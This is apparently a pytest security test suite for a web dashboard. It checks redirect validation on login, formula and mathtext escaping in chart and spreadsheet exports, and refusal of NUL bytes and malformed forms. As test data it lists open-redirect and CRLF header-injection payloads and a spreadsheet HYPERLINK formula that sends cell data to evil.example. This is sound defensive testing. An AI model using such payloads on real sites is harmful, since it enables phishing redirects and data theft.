"""Hostile input at the dashboard's doors: where a login may send the browser next.

`next=` (after logging in, and after choosing a language) may only lead to a path of this
site, without control characters: never to another host (`//evil`, `/\\evil`, `https://`),
never through characters browsers drop from a URL (`/\\t/evil` is `//evil` to them), never
into a header of its own (`\\r\\n`).
"""

from __future__ import annotations

import inspect
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlencode

import aiohttp
import pytest
from aiohttp import FormData

from backend.dashboard import views_account
from tests.security.bench import PASSWORD, World, csrf_of, login, session_csrf
from tests.security.sweep import (
    a_path_values,
    area,
    ids_in_table,
    params,
    refused,
    route_path,
    snapshot,
    sweep_urls,
)

# Targets that must never be followed: each leads off-site, or is no clean path.
OFF_SITE = [
    "//evil.example",
    "//evil.example/dashboard",
    "///evil.example",
    "/\\evil.example",
    "/\\/evil.example",
    "\\\\evil.example",
    "\\/evil.example",
    "https://evil.example",
    "HTTPS://evil.example/dashboard",
    "http:evil.example",
    "http:/evil.example",
    "javascript:alert(1)",
    "evil.example",
    "dashboard",
    "/\t/evil.example",
    "\t//evil.example",
    "/\n/evil.example",
    "/\r/evil.example",
    "/dashboard\r\nSet-Cookie: stolen=1",
    "/\r\nLocation: https://evil.example",
    "/dash\\board",
    "/dashboard/\\evil.example",
    " //evil.example",
    "/ /evil.example",
    "/\u00a0/evil.example",
    "/\u200b/evil.example",
    "/\u2028/evil.example",
    "/\x7f/evil.example",
    "/\x85/evil.example",
    "/dashboard\x1b[31m",
    "/" + "a" * 5000,
]
# Same-site paths: followed as given.
SAME_SITE = [
    "/dashboard/schools/alpha",
    "/dashboard/account?tab=token&next=//evil.example",
    "/dashboard/schools/alpha#cycles",
    "/dashboard/%2F%2Fevil.example",
]
HOME = "/dashboard/home"  # where a coordinator lands after login


@pytest.fixture
def fast_passwords(monkeypatch):
    """argon2 takes a second per try; the routes and sessions are the real ones."""
    monkeypatch.setattr(views_account, "verify_password", lambda h, p: p == PASSWORD)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_after_login_next_only_leads_to_a_path_of_this_site(world: World, fast_passwords):
    client = world.client
    problems = []
    for target, expected in [(t, HOME) for t in OFF_SITE] + [(t, t) for t in SAME_SITE]:
        client.session.cookie_jar.clear()
        where = f"next={target[:60]!r}"
        try:
            resp = await client.post(
                "/login",
                data={
                    "csrf": await csrf_of(client),
                    "email": world.a.email,
                    "password": PASSWORD,
                    "next": target,
                },
                allow_redirects=False,
            )
            await resp.read()
        except aiohttp.ClientError as exc:  # the server could not even write the answer
            problems.append(f"{where}: {type(exc).__name__}")
            continue
        if resp.status != 303:
            problems.append(f"{where}: {resp.status}")
            continue
        if resp.headers.get("Location") != expected:
            problems.append(f"{where}: Location {resp.headers.get('Location', '')[:60]!r}")
        if "stolen" in str(resp.headers):
            problems.append(f"{where}: a header of its own")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_the_language_picker_follows_no_foreign_next(world: World):
    client = world.client
    for target in OFF_SITE:
        resp = await client.post(
            "/language",
            data={"csrf": await csrf_of(client), "lang": "en", "next": target},
            allow_redirects=False,
        )
        await resp.read()
        assert resp.status == 303, target
        assert resp.headers["Location"] == "/login", (target[:60], resp.headers["Location"][:60])
    resp = await client.post(
        "/language",
        data={"csrf": await csrf_of(client), "lang": "en", "next": "/login?x=1"},
        allow_redirects=False,
    )
    assert resp.headers["Location"] == "/login?x=1"


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_the_login_page_carries_no_foreign_next_into_its_form(world: World):
    client = world.client
    for target in ("//evil.example", "/\\evil.example", "https://evil.example"):
        resp = await client.get("/login", params={"next": target})
        assert resp.status == 200
        carried = re.findall(r'name="next" value="([^"]*)"', await resp.text())
        # The login form's own field is empty; the language picker's returns to this page.
        assert "" in carried and all(v == "" or v.startswith("/login?") for v in carried)
    resp = await client.get("/login", params={"next": "/dashboard/schools/alpha"})
    assert 'value="/dashboard/schools/alpha"' in await resp.text()


# -- names that look like code stay text in every chart and export --------------------

MATH_NAME = r"a $\frac$ b $x$"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_names_that_look_like_code_stay_text_in_every_chart_and_export(world: World):
    """Through the routes: every chart and export of a cycle named in mathtext, of a school
    and an earlier cycle named as spreadsheet formulas."""
    from io import BytesIO

    from openpyxl import load_workbook
    from sqlalchemy import update

    from storage.models import Cycle, School
    from tests.security.bench import readable, svg_text

    w, client = world, world.client
    async with w.sm.begin() as s:
        await s.execute(update(Cycle).where(Cycle.id == w.a.cycle_id).values(name=MATH_NAME))
        await s.execute(
            update(Cycle).where(Cycle.id == w.a.old_cycle_id).values(name="+" + FORMULA_NAME)
        )
        await s.execute(update(School).where(School.id == w.a.school_id).values(name=FORMULA_NAME))
    assert (await login(client, w.a.email)).status == 303
    fills = {"cycle_id": str(w.a.cycle_id), "key": "VL-1", "dim": "2"}
    paths = []
    for route in w.app.router.routes():
        name = route.name or ""
        if route.method != "GET" or not name.startswith(("dash:chart_", "dash:compare_chart")):
            continue
        paths.append(
            route.url_for(
                **{k: v for k, v in fills.items() if f"{{{k}" in route.resource.canonical}
            ).path
        )
    paths = [p + ("?with=" + str(w.a.old_cycle_id) if "compare" in p else "") for p in paths]
    assert len(paths) >= 5, paths
    for path in paths:
        resp = await client.get(path)
        assert resp.status == 200, path
        # as text, where a chart may wrap a long title between words
        assert MATH_NAME in " ".join(svg_text(await resp.text()).split()), path
    base = f"/dashboard/cycles/{w.a.cycle_id}/export"
    resp = await client.get(base + ".xlsx")
    assert resp.status == 200
    wb = load_workbook(BytesIO(await resp.read()))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value in (FORMULA_NAME, MATH_NAME)]
    assert {c.value for c in named} == {FORMULA_NAME, MATH_NAME}
    assert all(c.data_type == "s" for c in named)
    resp = await client.get(base + ".pdf")
    assert resp.status == 200
    assert r"\frac" in readable(await resp.read())
    resp = await client.get(base + ".csv")
    assert resp.status == 200


# -- a NUL character anywhere: 400, nothing stored -------------------------------------

EVIL = "a\x00b"


async def own_ids(w: World) -> dict[str, str]:
    """Our values for every path parameter of the app (school A's)."""
    ids = a_path_values(w)
    for route in w.app.router.routes():
        for n in params(route):
            if n not in ids:
                found = await ids_in_table(w, n, w.a.school_id, [w.a.cycle_id])
                ids[n] = str(found[0])
    return ids


async def test_a_nul_in_any_path_segment_or_query_string_is_refused(world: World):
    w, client = world, world.client
    assert (await login(client, w.a.email)).status == 303
    ids = await own_ids(w)
    before = await snapshot(w)

    def headers(path: str) -> dict[str, str]:
        h = {"X-CSRF-Token": session_csrf(client)}
        return h | w.a.api_headers if path.startswith("/api/") else h

    problems = await sweep_urls(client, list(w.app.router.routes()), ids, headers)
    # Paths no route has, with a NUL: the same page.
    for path in ("/nowhere%00", "/dashboard/%00/x", "/%00"):
        wrong = await refused(await client.get(path), "dash")
        if wrong:
            problems.append(f"GET {path}: {wrong}")
    assert not problems, "\n".join(problems)
    assert await snapshot(w) == before
    # Still logged in: the refused POST /logout did not run.
    assert (await client.get("/dashboard/account")).status == 200


class _Forms(HTMLParser):
    """The POST forms of a page: action and fields (name -> a value the page offers)."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[tuple[str, str, dict[str, str]]] = []
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form":
            if a.get("method", "get").lower() == "post":
                self.forms.append((a.get("action", ""), a.get("enctype", ""), {}))
            else:
                self.forms.append(("", "", {}))  # a GET form: ignored
            return
        if not self.forms or not a.get("name"):
            if tag == "option" and self._select and self.forms:
                self.forms[-1][2].setdefault(self._select, a.get("value", ""))
            return
        fields = self.forms[-1][2]
        if tag in ("input", "button", "textarea"):
            if a.get("type") == "file":
                fields.setdefault(a["name"], "")
            else:
                fields.setdefault(a["name"], a.get("value", "x") or "x")
        elif tag == "select":
            self._select = a["name"]

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None


FIELD_IN_SOURCE = [
    re.compile(r'\.get(?:all|one)?\(\s*"([A-Za-z_]\w*)"'),  # form.get("name", ...)
    re.compile(r'"([A-Za-z_]\w*)" in fields'),
    re.compile(r'part\.name (?:==|in) \(?((?:"\w+"(?:, )?)+)'),
]


def fields_read_by(handler: Any) -> set[str]:
    """The form fields a view (and the functions of ours it calls) read, from the source."""
    sources = [inspect.getsource(handler)]
    for value in inspect.getclosurevars(handler).globals.values():
        if inspect.isfunction(value) and value.__module__.startswith("backend."):
            sources.append(inspect.getsource(value))
    names: set[str] = set()
    for src in sources:
        for pattern in FIELD_IN_SOURCE:
            for found in pattern.findall(src):
                names |= set(re.findall(r"\w+", found)) if '"' in found else {found}
    return names


async def post_forms(w: World, ids: dict[str, str]) -> dict[str, dict[str, str]]:
    """POST route name -> its fields with a value each: read from every page's forms
    (this user's, the admin's, the web chat's) and from the views' source."""
    from aiohttp.test_utils import make_mocked_request

    client = w.client
    found: dict[str, dict[str, str]] = {}
    pages = [
        route_path(r, ids)
        for r in w.app.router.routes()
        if r.method == "GET"
        and (r.name or "").startswith(("dash:", "webchat."))
        and not route_path(r, ids).endswith((".svg", ".png", ".pdf", ".json", ".csv", ".xlsx"))
        and "static" not in (r.name or "")
        and "evidence_file" not in (r.name or "")
    ]
    await client.get(f"/s/{w.a.invite_codes[0]}")  # a survey page with its forms
    for page in [*pages, "/chat"]:
        resp = await client.get(page)
        if resp.content_type != "text/html":
            continue
        parser = _Forms()
        parser.feed(await resp.text())
        for action, _enctype, fields in parser.forms:
            if not action:
                continue
            req = make_mocked_request("POST", action.split("?")[0].split("#")[0], app=w.app)
            match = await w.app.router.resolve(req)
            name = getattr(match.route, "name", None)
            if name:
                found.setdefault(name, {}).update(fields)
    for route in w.app.router.routes():
        if route.method == "POST":
            fields = found.setdefault(route.name or "", {})
            for field in fields_read_by(route.handler):
                fields.setdefault(field, "x")
    return found


async def test_a_nul_in_any_form_field_is_refused_and_nothing_is_stored(world: World):
    """Every POST route, every field it reads (its forms and its view), urlencoded and
    multipart, a NUL in the value (and in a field's name): 400, and no row changes."""
    w, client = world, world.client
    assert (await login(client, w.a.email)).status == 303
    ids = await own_ids(w)
    forms = await post_forms(w, ids)
    store = w.settings.data_dir / "evidence"
    files_before = set(store.iterdir())
    before = await snapshot(w)
    problems, swept = [], 0
    post_routes = [r for r in w.app.router.routes() if r.method == "POST"]
    for route in post_routes:
        path = route_path(route, ids)
        fields = {k: v for k, v in forms[route.name or ""].items() if k != "csrf"}
        # A view that reads a form has fields here (else the sweep missed them).
        reads = re.search(r"request\.(post|multipart|json)\(", inspect.getsource(route.handler))
        assert fields or not reads, f"no fields found for {route.name}"
        headers = w.a.api_headers if path.startswith("/api/") else {}
        streamed = route.name == "dash:evidence_add"
        for field in [*fields, "csrf", "\x00name"]:
            for encoding in ("urlencoded", "multipart"):
                if encoding == "multipart" and field == "\x00name":
                    continue  # a multipart name travels in a header: the client refuses it
                data = {"csrf": session_csrf(client), **fields}
                data[field] = EVIL if field != "\x00name" else "1"
                form = FormData(quote_fields=False) if encoding == "multipart" else None
                if form is not None:
                    # csrf first: the streamed upload reads it as its first part
                    for k in sorted(data, key=lambda k: k != "csrf"):
                        form.add_field(k, data[k], content_type="text/plain; charset=utf-8")
                    if streamed:
                        form.add_field("file", b"%PDF-1.4 x", filename="a.pdf")
                if form is None:  # by hand: aiohttp's client refuses a NUL in a name
                    body: Any = urlencode(data).encode()
                    hdrs = headers | {"Content-Type": "application/x-www-form-urlencoded"}
                else:
                    body, hdrs = form, headers
                resp = await client.post(path, data=body, headers=hdrs, allow_redirects=False)
                swept += 1
                wrong = await refused(resp, area(path, route.name or ""))
                if field == "csrf" and resp.status == 403:
                    wrong = None  # the session middleware refuses a forged token first
                if wrong:
                    problems.append(f"POST {path} {field}={data[field]!r} {encoding}: {wrong}")
    # A NUL in an uploaded file's name (raw, and percent-encoded as browsers send it).
    url = route_path(next(r for r in post_routes if r.name == "dash:evidence_add"), ids)
    for filename in (b"plan\x00.pdf", b"plan%00.pdf"):
        # Written by hand: aiohttp's client refuses a control character in a part header.
        boundary = b"nulboundary"
        body = (
            b"".join(
                b"--"
                + boundary
                + b"\r\nContent-Disposition: form-data; "
                + head
                + b"\r\n\r\n"
                + value
                + b"\r\n"
                for head, value in (
                    (b'name="csrf"', session_csrf(client).encode()),
                    (b'name="note"', b"a note"),
                    (b'name="file"; filename="' + filename + b'"', b"%PDF-1.4 x"),
                )
            )
            + b"--"
            + boundary
            + b"--\r\n"
        )
        resp = await client.post(
            url,
            data=body,
            headers={"Content-Type": "multipart/form-data; boundary=nulboundary"},
            allow_redirects=False,
        )
        wrong = await refused(resp, "dash", malformed=b"\x00" in filename)
        if wrong:
            problems.append(f"POST {url} filename={filename!r}: {wrong}")
    assert not problems, "\n".join(problems)
    assert swept > 100, swept
    assert await snapshot(w) == before
    assert set(store.iterdir()) == files_before


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
@pytest.mark.parametrize("lang", ["uk", "hy"])
async def test_the_nul_page_is_in_the_readers_language(world: World, lang: str):
    from backend.i18n import texts
    from backend.web.input_guard import MESSAGE

    w, client = world, world.client
    assert (await login(client, w.a.email)).status == 303
    resp = await client.post(
        "/language", data={"csrf": session_csrf(client), "lang": lang}, allow_redirects=False
    )
    assert resp.status == 303
    translated = texts(lang).gettext(MESSAGE)
    assert translated != MESSAGE
    for path in (f"/dashboard/schools/{w.a.slug}%00", f"/dashboard/cycles/{w.a.cycle_id}?x=%00"):
        resp = await client.get(path)
        html = await resp.text()
        assert resp.status == 400, path
        assert f'lang="{lang}"' in html and translated.split("(")[0].strip() in html, path
    resp = await client.post(
        f"/dashboard/cycles/{w.a.cycle_id}/actions",
        data={"csrf": session_csrf(client), "title": "Fix\x00it", "owner": "me"},
    )
    assert resp.status == 400 and translated.split("(")[0].strip() in await resp.text()


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_a_form_that_cannot_be_read_is_a_400_not_a_500(world: World):
    """Bytes that are no UTF-8, a raw NUL byte in a multipart part header, a multipart body
    cut short: the form cannot be read, and that is the sender's error (400)."""
    w, client = world, world.client
    token = await csrf_of(client)

    def part(head: bytes, value: bytes) -> bytes:
        return b"--b\r\nContent-Disposition: form-data; " + head + b"\r\n\r\n" + value + b"\r\n"

    urlencoded = {"Content-Type": "application/x-www-form-urlencoded"}
    multipart = {"Content-Type": "multipart/form-data; boundary=b"}
    bodies = [
        (b"csrf=" + token.encode() + b"&email=\xff\xfe&password=x", urlencoded),
        (
            part(b'name="csrf"', token.encode()) + part(b'name="em\x00ail"', b"x") + b"--b--\r\n",
            multipart,
        ),
        (part(b'name="csrf"', token.encode()) + b"--b\r\nContent-Disposition: form-", multipart),
    ]
    for path in ("/login", f"/dashboard/cycles/{w.a.cycle_id}/actions", "/chat"):
        for body, headers in bodies:
            resp = await client.post(path, data=body, headers=headers, allow_redirects=False)
            await resp.read()
            assert resp.status == 400, (path, body[:60], resp.status)


@pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
async def test_secrets_with_non_ascii_characters_are_wrong_not_a_crash(world: World):
    """compare_digest raises TypeError for a str with non-ASCII characters: a CSRF token,
    a session cookie's signature or an API token with one was a 500, not a refusal."""
    from backend.dashboard import auth

    w, client = world, world.client
    await csrf_of(client)
    form = {"email": w.a.email, "password": PASSWORD}
    resp = await client.post("/login", data=form | {"csrf": "ü" * 32}, allow_redirects=False)
    assert resp.status == 403
    resp = await client.post(
        "/login", data=form, headers={"X-CSRF-Token": "токен"}, allow_redirects=False
    )
    assert resp.status == 403
    for token in (f"gst_{w.a.user_id}_ü", f"gst_{w.a.user_id}_" + "é" * 43):
        resp = await client.get("/api/me", headers={"Authorization": f"Bearer {token}"})
        assert resp.status == 401, token
    client.session.cookie_jar.clear()
    for raw in ("eyJ1aWQiOjF9.ü", "eyJ1aWQiOjF9.\udcff"):
        resp = await client.get(
            "/dashboard",
            headers={
                "Cookie": f"{auth.COOKIE}={raw}".encode("utf-8", "surrogateescape").decode(
                    "latin-1"
                )
            },
            allow_redirects=False,
        )
        assert resp.status == 303 and resp.headers["Location"].startswith("/login"), raw
